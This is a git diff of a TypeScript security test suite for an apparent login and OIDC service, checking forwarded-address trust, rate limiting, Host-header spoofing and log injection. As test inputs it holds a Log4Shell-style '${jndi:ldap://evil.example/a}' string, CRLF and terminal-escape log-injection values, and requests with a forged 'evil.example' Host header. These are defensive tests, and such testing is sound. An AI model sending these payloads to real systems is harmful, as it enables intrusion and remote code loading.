@@ -1,27 +1,27 @@
-import { once } from 'node:events'
-import { connect } from 'node:net'
+import { request } from 'node:http'
+import { text } from 'node:stream/consumers'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { formsOf } from '../support/browser.ts'
-import { memoryLog } from '../support/callback.ts'
+import { start } from '../../src/main.ts'
+import { openAttackedShop, type AttackedShop } from '../support/callback.ts'
 import { startShop, type Shop } from '../support/shop.ts'
 import { askForCode, atChoice } from '../support/signing-in.ts'
 
 // What headers say about who asks, from where, by which name: one house that trusts a proxy on this machine, one that trusts none.
-const { log, lines } = memoryLog()
 let proxied: Shop
-let direct: Shop
+let direct: AttackedShop
 beforeAll(async () => {
   proxied = await startShop({ env: { TRUSTED_PROXIES: '127.0.0.1' } })
-  direct = await startShop({ other: { log } })
+  direct = await openAttackedShop()
 })
 afterAll(async () => {
   await proxied[Symbol.asyncDispose]()
   await direct[Symbol.asyncDispose]()
 })
 
-const guess = async (shop: Shop, headers: Record<string, string>) => {
-  const authorization = `Basic ${Buffer.from('ads:wrong-wrong-wrong').toString('base64')}`
-  const answer = await fetch(`${shop.url}/oidc/token`, {
+const guess = async (url: string, headers: Record<string, string>, client = 'ads') => {
+  const authorization = `Basic ${Buffer.from(`${client}:wrong-wrong-wrong`).toString('base64')}`
+  const answer = await fetch(`${url}/oidc/token`, {
     method: 'POST',
     headers: { authorization, ...headers },
     body: new URLSearchParams({ grant_type: 'client_credentials' }),
@@ -30,10 +30,23 @@ const guess = async (shop: Shop, headers: Record<string, string>) => {
 }
 
 /** The answers to more guesses than one place has, each with headers of its own. */
-async function guesses(shop: Shop, headersOf: (n: number) => Record<string, string>): Promise<number[]> {
+async function guesses({ url }: Pick<Shop, 'url'>, headersOf: (n: number) => Record<string, string>, client?: string): Promise<number[]> {
   const statuses: number[] = []
-  for (let n = 0; n < 24; n++) statuses.push(await guess(shop, headersOf(n)))
+  for (let n = 0; n < 24; n++) statuses.push(await guess(url, headersOf(n), client))
   return statuses
+}
+
+/** A request under another name than the one it goes to, which `fetch` would not send. */
+async function asked(url: string, headers: Record<string, string>, form?: URLSearchParams): Promise<{ location: string; text: string }> {
+  const named = { host: 'evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', ...headers }
+  const more = form === undefined ? {} : { 'content-type': 'application/x-www-form-urlencoded', 'content-length': String(form.toString().length) }
+  return new Promise((resolve, reject) => {
+    request(url, { method: form === undefined ? 'GET' : 'POST', headers: { ...named, ...more } }, (answer) => {
+      text(answer).then((body) => resolve({ location: answer.headers.location ?? '', text: JSON.stringify(answer.headers) + body }), reject)
+    })
+      .on('error', reject)
+      .end(form?.toString())
+  })
 }
 
 test('F18 F19 with no proxy configured, no header says where somebody is', async () => {
@@ -50,6 +63,15 @@ test('F18 F19 with no proxy configured, no header says where somebody is', async
 test('F18 with one, the address that it added counts, and what was in front of it does not', async () => {
   expect((await guesses(proxied, (n) => ({ 'x-forwarded-for': `192.0.2.${n}, 203.0.113.7` }))).at(-1)).toBe(429)
   expect((await guesses(proxied, (n) => ({ 'x-forwarded-for': `203.0.113.${n + 100}` }))).at(-1)).toBe(401)
+})
+
+test('F19 who is not one of the configured proxies is believed as little as anybody, and no host is believed at all', async () => {
+  await using guarded = await start({ ...direct.env, TRUSTED_PROXIES: '10.9.9.9', PUBLIC_URL: direct.url })
+  expect((await guesses({ url: guarded.address }, (n) => ({ 'x-forwarded-for': `203.0.113.${n}` }), 'marketing')).at(-1)).toBe(429)
+  for (const url of [guarded.address, proxied.url]) {
+    const described = await asked(`${url}/oidc/.well-known/openid-configuration`, {})
+    expect([url, described.text.includes('evil.example'), described.text.includes('https://')]).toEqual([url, false, false])
+  }
 })
 
 test('F20 a household with more addresses than there are stars is one place', async () => {
@@ -114,31 +136,17 @@ test('F29 letters lead to where this house is, whatever Host the request named',
   const way = await atChoice(direct)
   const { browser, page } = way
   const form = formsOf(page).find(({ action }) => action.endsWith('/login/mail'))
-  const body = new URLSearchParams({ ...form?.fields, address: 'person-2200@people.example' }).toString()
-  const { hostname, port, pathname, origin } = new URL(form?.action ?? '')
-  const socket = connect({ host: hostname, port: Number(port) })
-  socket.write(
-    [
-      `POST ${pathname} HTTP/1.1`,
-      'Host: evil.example',
-      'X-Forwarded-Host: evil.example',
-      `Origin: ${origin}`,
-      `Cookie: ${browser.cookieHeaderFor(direct.url)}`,
-      'Content-Type: application/x-www-form-urlencoded',
-      `Content-Length: ${body.length}`,
-      'Connection: close',
-      '',
-      body,
-    ].join('\r\n'),
-  )
-  const [answer] = (await once(socket, 'data')) as [Buffer]
-  socket.destroy()
-  expect(answer.toString()).not.toContain('evil.example')
+  const posted = new URLSearchParams({ ...form?.fields, address: 'person-2200@people.example' })
+  const origin = new URL(direct.url).origin
+  const answer = await asked(form?.action ?? '', { origin, cookie: browser.cookieHeaderFor(direct.url) }, posted)
+  expect(answer.text).not.toContain('evil.example')
   const mail = await direct.mailFor('person-2200@people.example', /\d{4}[ -]?\d{4}/)
   expect(`${mail.subject} ${mail.text}`).not.toContain('evil.example')
-  // The same in the letter about a device that is new, which has a link.
-  await direct.signIn('google', { as: 'person-2200', client: 'account' })
-  const letter = await direct.mailFor('person-2200@people.example', /http/)
+  // The same in the letter about a device that is new, whose link signs everybody out.
+  const standing = await direct.stand({ as: 'person-2200' })
+  const back = await asked(standing.callback.href, { cookie: standing.browser.cookieHeaderFor(direct.url) })
+  expect([back.location.startsWith(`${direct.url}/`), back.text.includes('evil.example')]).toEqual([true, false])
+  const letter = await direct.mailFor('person-2200@people.example', /not-me/)
   expect([...letter.text.matchAll(/https?:\/\/[^/\s]+/g)].map(([link]) => link)).toEqual([direct.url])
 })
 
@@ -164,7 +172,7 @@ test('F31 pages of others read nothing here: no origin that is not registered, n
 })
 
 test('F32 F41 what is sent makes no line of the log, and no page says what it is made of', async () => {
-  const from = lines.length
+  const from = direct.lines.length
   const evil = 'x%0d%0a%1b[31m{"level":60}${jndi:ldap://evil.example/a}'
   const headers = { 'user-agent': '${jndi:ldap://evil.example/a} [31m', referer: 'https://evil.example/jndi' }
   const paths = [
@@ -183,7 +191,7 @@ test('F32 F41 what is sent makes no line of the log, and no page says what it is
     if (answer.headers.get('content-type')?.includes('html'))
       expect(answer.headers.get('content-security-policy')).toMatch(/^(?!.*unsafe-).*default-src 'none'/)
   }
-  const written = lines.slice(from)
+  const written = direct.lines.slice(from)
   expect(written.length).toBeGreaterThan(paths.length)
   for (const line of written) expect([line, line.endsWith('\n') && line.indexOf('\n') === line.length - 1 && typeof JSON.parse(line)]).toEqual([line, 'object'])
   expect(written.join('')).not.toMatch(/jndi|evil/)
@@ -193,7 +201,9 @@ test('F34 health and metrics name no version, no host and nobody, and are a word
   await askForCode(await atChoice(direct), 'person-2300@people.example')
   for (const path of ['/health/live', '/health/ready']) expect(await (await fetch(direct.url + path)).text()).toMatch(/^\{"status":"ok"\}$/)
   const text = await (await fetch(`${direct.url}/metrics`)).text()
+  expect(text).toContain('entente_http_request_duration_seconds')
   expect(text).not.toMatch(/people\.example|mongodb:|redis:|127\.0\.0\.1/)
+  expect(text).not.toMatch(/version|"v?\d+\.\d+\.\d+/)
   const labels = new Set([...text.matchAll(/route="([^"]*)"/g)].map(([, route]) => route))
   for (let n = 0; n < 20; n++) await fetch(`${direct.url}/nowhere-${n}?${n}`)
   const after = await (await fetch(`${direct.url}/metrics`)).text()
